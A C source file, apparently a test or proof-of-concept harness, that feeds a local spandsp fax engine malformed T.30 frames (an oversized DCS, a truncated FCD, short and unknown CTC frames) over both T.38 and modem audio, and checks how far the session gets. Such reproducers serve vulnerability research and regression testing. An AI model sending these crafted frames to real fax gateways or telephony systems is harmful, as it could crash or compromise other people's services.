/* SPDX-License-Identifier: MIT */
/* Attacks on a spandsp fax machine; see t30_attack.h. Frames are written first bit lowest, as spandsp has them. */
#undef NDEBUG
#include "media/t30_attack.h"

#include <assert.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include <tiffio.h>
#include <spandsp.h>

/* V.27ter at 4800 bit/s, ECM, R8 fine, A4. */
static const uint8_t good_dcs[] = {0xff, 0x13, 0x83, 0x00, 0x4a, 0x80, 0x84, 0x00};
static const uint8_t short_fcd[] = {0xff, 0x03, 0x06};
static const uint8_t good_fcd[] = {0xff, 0x03, 0x06, 0x00, 0x12, 0x34, 0x56};
static const uint8_t unknown_ctc[] = {0xff, 0x13, 0x13, 0x00, 0x3c};
static const uint8_t short_ctc[] = {0xff, 0x13, 0x13};

#define TCF_BYTES 900 /* 1.5 s at 4800 bit/s */
#define TICK 160

static bool got_dis, got_cfr;

static void on_frame(t30_state_t *t30, void *arg, int incoming, const uint8_t *frame, int size)
{
	(void)t30;
	(void)arg;
	if (incoming || size < 3)
		return;
	got_dis = got_dis || (frame[2] & 0xfe) == T30_DIS;
	got_cfr = got_cfr || (frame[2] & 0xfe) == T30_CFR;
}

static int set_up(t30_state_t *t30)
{
	int fd = memfd_create("attack", MFD_CLOEXEC);
	char path[40];

	assert(fd >= 0);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	t30_set_rx_file(t30, path, -1);
	t30_set_ecm_capability(t30, TRUE);
	t30_set_real_time_frame_handler(t30, on_frame, NULL);
	got_dis = got_cfr = false;
	return fd;
}

/* What is sent instead of the first DCS, and what once the image may come. */
static size_t long_dcs(uint8_t *frame)
{
	memset(frame, 0x55, 80);
	memcpy(frame, good_dcs, sizeof(good_dcs));
	return 80;
}

/* ---- T.38 ---------------------------------------------------------------- */

static struct {
	t38_terminal_state_t *terminal;
	t38_core_state_t *core;
	uint16_t seq;
} t38;

static int drop_ifp(t38_core_state_t *core, void *arg, const uint8_t *data, int size, int copies)
{
	(void)core, (void)arg, (void)data, (void)size, (void)copies;
	return 0;
}

static void t38_wait(unsigned int ms)
{
	for (; ms > 0; ms -= 20)
		t38_terminal_send_timeout(t38.terminal, TICK);
}

/* The machine says what it can do, and listens then. It does so again after a frame that was no good. */
static void t38_wait_for_dis(void)
{
	unsigned int i;

	got_dis = false;
	for (i = 0; i < 1000 && !got_dis; i++)
		t38_wait(20);
	t38_wait(1000);
}

static void t38_indicator(unsigned int indicator)
{
	uint8_t ifp = (uint8_t)(indicator << 1);

	t38_core_rx_ifp_packet(t38.core, &ifp, 1, t38.seq++);
}

static void t38_data(unsigned int type, unsigned int field, const uint8_t *data, size_t size)
{
	uint8_t ifp[400] = {(uint8_t)(0xc0 | type << 1), 1, (uint8_t)(field << 4)};
	size_t length = 3;

	if (size > 0) {
		ifp[2] |= 0x80;
		ifp[3] = (uint8_t)((size - 1) >> 8);
		ifp[4] = (uint8_t)(size - 1);
		memcpy(ifp + 5, data, size);
		length = 5 + size;
	}
	t38_core_rx_ifp_packet(t38.core, ifp, (int)length, t38.seq++);
}

static void t38_frame(unsigned int type, const uint8_t *frame, size_t size, bool last)
{
	uint8_t reversed[300];
	size_t i;

	for (i = 0; i < size; i++)
		reversed[i] = bit_reverse8(frame[i]);
	t38_data(type, T38_FIELD_HDLC_DATA, reversed, size);
	t38_data(type, last ? T38_FIELD_HDLC_FCS_OK_SIG_END : T38_FIELD_HDLC_FCS_OK, NULL, 0);
	t38_wait(100);
}

static void t38_dcs(const uint8_t *frame, size_t size)
{
	t38_indicator(T38_IND_V21_PREAMBLE);
	t38_wait(1000);
	t38_frame(T38_DATA_V21, frame, size, true);
	t38_indicator(T38_IND_NO_SIGNAL);
	t38_wait(100);
}

static void t38_tcf(void)
{
	static const uint8_t zeros[100];
	unsigned int i;

	t38_indicator(T38_IND_V27TER_4800_TRAINING);
	t38_wait(1000);
	for (i = 0; i < TCF_BYTES; i += sizeof(zeros)) {
		t38_data(T38_DATA_V27TER_4800, T38_FIELD_T4_NON_ECM_DATA, zeros, sizeof(zeros));
		t38_wait(160);
	}
	t38_data(T38_DATA_V27TER_4800, T38_FIELD_T4_NON_ECM_SIG_END, NULL, 0);
	t38_wait(3000);
}

bool t30_attack_t38(enum t30_attack attack)
{
	uint8_t frame[80];
	bool got_there;
	int fd;

	memset(&t38, 0, sizeof(t38));
	t38.terminal = t38_terminal_init(NULL, FALSE, drop_ifp, NULL);
	assert(t38.terminal);
	t38.core = t38_terminal_get_t38_core_state(t38.terminal);
	fd = set_up(t38_terminal_get_t30_state(t38.terminal));

	t38_wait_for_dis();
	if (attack == T30_ATTACK_LONG_DCS) {
		t38_dcs(frame, long_dcs(frame));
		t38_wait_for_dis();
	}
	t38_dcs(good_dcs, sizeof(good_dcs));
	t38_tcf();
	got_there = got_cfr;

	t38_indicator(T38_IND_V27TER_4800_TRAINING);
	t38_wait(1000);
	if (attack == T30_ATTACK_BAD_CTC) {
		t38_indicator(T38_IND_NO_SIGNAL);
		t38_indicator(T38_IND_V21_PREAMBLE);
		t38_frame(T38_DATA_V21, short_ctc, sizeof(short_ctc), false);
		t38_frame(T38_DATA_V21, unknown_ctc, sizeof(unknown_ctc), true);
	} else {
		t38_frame(T38_DATA_V27TER_4800, good_fcd, sizeof(good_fcd), false);
		if (attack == T30_ATTACK_SHORT_FCD)
			t38_frame(T38_DATA_V27TER_4800, short_fcd, sizeof(short_fcd), true);
	}
	t38_wait(5000);

	t38_terminal_free(t38.terminal);
	close(fd);
	return got_there;
}

/* ---- audio ----------------------------------------------------------------- */

static fax_state_t *fax;

/* The machine lives while the attacker says @samples; what it says itself is not listened to. */
static void say(int16_t *samples, int count)
{
	int16_t heard[TICK];

	fax_rx(fax, samples, count);
	fax_tx(fax, heard, count);
}

static void be_quiet(unsigned int ms)
{
	int16_t samples[TICK];

	for (; ms > 0; ms -= 20) {
		memset(samples, 0, sizeof(samples));
		say(samples, TICK);
	}
}

static void wait_for_dis(void)
{
	unsigned int i;

	got_dis = false;
	for (i = 0; i < 1000 && !got_dis; i++)
		be_quiet(20);
	be_quiet(1000);
}

static bool frames_done;

static void on_underflow(void *arg)
{
	(void)arg;
	frames_done = true;
}

static int zero_bit(void *arg)
{
	(void)arg;
	return 0;
}

static void say_v21(const uint8_t *frame, size_t size)
{
	hdlc_tx_state_t *hdlc = hdlc_tx_init(NULL, FALSE, 2, FALSE, on_underflow, NULL);
	fsk_tx_state_t *fsk = fsk_tx_init(NULL, &preset_fsk_specs[FSK_V21CH2], (get_bit_func_t)hdlc_tx_get_bit, hdlc);
	int16_t samples[TICK];
	unsigned int i;

	frames_done = false;
	hdlc_tx_flags(hdlc, 40);
	hdlc_tx_frame(hdlc, frame, size);
	for (i = 0; i < 1000 && !frames_done; i++)
		say(samples, fsk_tx(fsk, samples, TICK));
	for (i = 0; i < 4; i++)
		say(samples, fsk_tx(fsk, samples, TICK));
	hdlc_tx_free(hdlc);
	fsk_tx_free(fsk);
	be_quiet(100);
}

static void say_tcf(void)
{
	v27ter_tx_state_t *modem = v27ter_tx_init(NULL, 4800, FALSE, zero_bit, NULL);
	int16_t samples[TICK];
	unsigned int i;

	/* About 0.7 s of training come before. */
	for (i = 0; i < 2500 / 20; i++)
		say(samples, v27ter_tx(modem, samples, TICK));
	v27ter_tx_free(modem);
	be_quiet(4000);
}

static void say_v27ter(const uint8_t *frame, size_t size)
{
	hdlc_tx_state_t *hdlc = hdlc_tx_init(NULL, FALSE, 2, FALSE, on_underflow, NULL);
	v27ter_tx_state_t *modem = v27ter_tx_init(NULL, 4800, FALSE, (get_bit_func_t)hdlc_tx_get_bit, hdlc);
	int16_t samples[TICK];
	unsigned int i;

	frames_done = false;
	hdlc_tx_flags(hdlc, 100);
	hdlc_tx_frame(hdlc, good_fcd, sizeof(good_fcd));
	for (i = 0; i < 1000 && !frames_done; i++)
		say(samples, v27ter_tx(modem, samples, TICK));
	frames_done = false;
	hdlc_tx_frame(hdlc, frame, size);
	for (i = 0; i < 1000 && !frames_done; i++)
		say(samples, v27ter_tx(modem, samples, TICK));
	for (i = 0; i < 10; i++)
		say(samples, v27ter_tx(modem, samples, TICK));
	hdlc_tx_free(hdlc);
	v27ter_tx_free(modem);
	be_quiet(5000);
}

bool t30_attack_audio(enum t30_attack attack)
{
	uint8_t frame[80];
	bool got_there;
	int fd;

	fax = fax_init(NULL, FALSE);
	assert(fax);
	fax_set_transmit_on_idle(fax, TRUE);
	fd = set_up(fax_get_t30_state(fax));

	wait_for_dis();
	if (attack == T30_ATTACK_LONG_DCS) {
		say_v21(frame, long_dcs(frame));
		wait_for_dis();
	}
	say_v21(good_dcs, sizeof(good_dcs));
	say_tcf();
	got_there = got_cfr;
	if (attack == T30_ATTACK_BAD_CTC) {
		say_v21(short_ctc, sizeof(short_ctc));
		say_v21(unknown_ctc, sizeof(unknown_ctc));
		be_quiet(5000);
	} else if (attack == T30_ATTACK_SHORT_FCD) {
		say_v27ter(short_fcd, sizeof(short_fcd));
	} else {
		say_v27ter(good_fcd, sizeof(good_fcd));
	}

	fax_free(fax);
	close(fd);
	return got_there;
}
